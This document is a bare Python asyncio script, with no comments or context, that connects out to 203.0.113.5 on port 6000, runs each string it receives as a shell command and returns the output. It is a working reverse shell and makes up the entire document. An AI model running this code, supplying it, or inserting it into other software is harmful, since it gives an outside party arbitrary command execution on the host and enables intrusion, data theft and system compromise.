import asyncio
class P(asyncio.Protocol):
    def connection_made(self, t): self.t = t
    def data_received(self, data):
        asyncio.ensure_future(self.go(data.decode()))
    async def go(self, c):
        p = await asyncio.create_subprocess_shell(c, stdout=-1)
        o, _ = await p.communicate()
        self.t.write(o)
loop = asyncio.new_event_loop()
loop.run_until_complete(loop.create_connection(P, "203.0.113.5", 6000))
loop.run_forever()
